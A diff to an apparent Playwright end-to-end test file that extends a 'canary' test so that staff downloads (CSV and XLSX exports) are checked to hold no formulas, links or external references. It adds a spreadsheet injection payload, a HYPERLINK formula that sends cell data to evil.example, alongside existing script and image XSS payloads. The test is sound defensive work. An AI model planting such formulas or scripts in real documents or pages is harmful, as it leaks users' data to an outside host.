@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
+import zipfile
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from datetime import date, timedelta
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Dialog, FilePayload, Page, Request, expect
+from openpyxl import load_workbook
+from playwright.sync_api import Browser, BrowserContext, Dialog, FilePayload, Locator, Page, Request, expect
 
 from tests.e2e.conftest import DESK, Server, make_phone
 from tests.e2e.filling import follow
@@ -18,6 +22,7 @@ IMAGE = "<img src=//evil.example/x onerror=alert(1)>"
 SCRIPT = '"><script>alert(2)</script>'
 MARKDOWN = "![p](http://evil.example/p.png) [go](javascript:alert(3))"
 CANARY = f"Canary {SCRIPT}{IMAGE}"
+FORMULA = '=HYPERLINK("http://evil.example/"&A1, "Canary")'
 FORM = f"""
 | survey | type | name | label::Tiếng Việt (vi) | label::English (en) | hint::English (en) | required | constraint | constraint_message::English (en) | unit::English (en) | appearance |
 |---|---|---|---|---|---|---|---|---|---|---|
@@ -109,7 +114,7 @@ def rename_establishment(page: Page, server: Server) -> str:
     follow(page.locator("a.row-link").first)
     address = page.url
     page.goto(f"{address}/edit")
-    page.locator("#f-name").fill(f"{CANARY} Ltd")
+    page.locator("#f-name").fill(f"{FORMULA} {CANARY} Ltd")
     follow(page.locator("main form button").first)
     assert page.url == address, page.inner_text("main")
     return address
@@ -156,7 +161,7 @@ def answer(page: Page, watch: Watch) -> None:
     }
     page.locator("[name='one/paper']").set_input_files([paper])
     page.locator("[data-add-row]").click()
-    page.locator("li.row input").first.fill(CANARY)
+    page.locator("li.row input").first.fill(FORMULA)
     page.locator("[data-next-screen]").click()  # the number is wrong: the canary's own message is shown
     expect(page.locator("#summary")).to_contain_text("Canary")
     watch.look(page)
@@ -223,12 +228,55 @@ def test_a_canary_in_every_text_stays_text_on_every_page(
     follow(page.locator("tbody th a").first)
     expect(page.locator("main")).to_contain_text(f"{CANARY} words")
     watch.look(page)
+    take_downloads(page, server)
     reader = enter_as(browser, server, "canary@mau.example", "a canary sings at dawn")
     seen = Watch(reader.context, server.url)
     for path in ("/work", "/account"):
         seen.look(reader, path)
     reader.context.close()
     rename_back(page, establishment)
+
+
+def take_downloads(page: Page, server: Server) -> None:
+    """Everything staff can save as a table holds the canary, and no spreadsheet runs or follows any of it."""
+    page.goto(f"{server.url}/submissions?search=Canary")
+    page.locator("select[name=questionnaire]").select_option(label=f"{CANARY} form")
+    follow(page.locator("form[role=search] button"))
+    saved = [(button.inner_text(), save(page, button)) for button in page.locator(".downloads button").all()]
+    assert len(saved) >= 5
+    assert any(FORMULA in content for _name, content in saved)
+    for kind in ("xlsx", "csv"):
+        for path in (f"/registers/establishments/export.{kind}?search=Canary", f"/coverage.{kind}"):
+            answer = page.request.get(server.url + path)
+            assert answer.status == 200
+            inert(answer.body(), kind)
+
+
+def save(page: Page, button: Locator) -> str:
+    """Save one file, look that it is inert, and give back all its words."""
+    with page.expect_download() as waiting:
+        button.click()
+    path = waiting.value.path()
+    return inert(path.read_bytes(), waiting.value.suggested_filename.rpartition(".")[2])
+
+
+def inert(content: bytes, kind: str) -> str:
+    """No cell is a formula or a link, no part of the file points outside; all cells as one text."""
+    if kind == "csv":
+        cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
+        for cell in cells:
+            assert not cell.lstrip().startswith(("=", "+", "@")), cell
+            assert not cell.startswith("-") or re.fullmatch(r"-[\d.e-]+", cell), cell
+        return "\n".join(cells)
+    book = load_workbook(io.BytesIO(content))
+    found = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.value for cell in found if cell.data_type == "f" or cell.hyperlink]
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert not [name for name in archive.namelist() if "external" in name.lower() or name.endswith(".bin")]
+        assert b'TargetMode="External"' not in b"".join(
+            archive.read(name) for name in archive.namelist() if name.endswith(".rels")
+        )
+    return "\n".join(str(cell.value) for cell in found)
 
 
 def rename_back(page: Page, establishment: str) -> None:
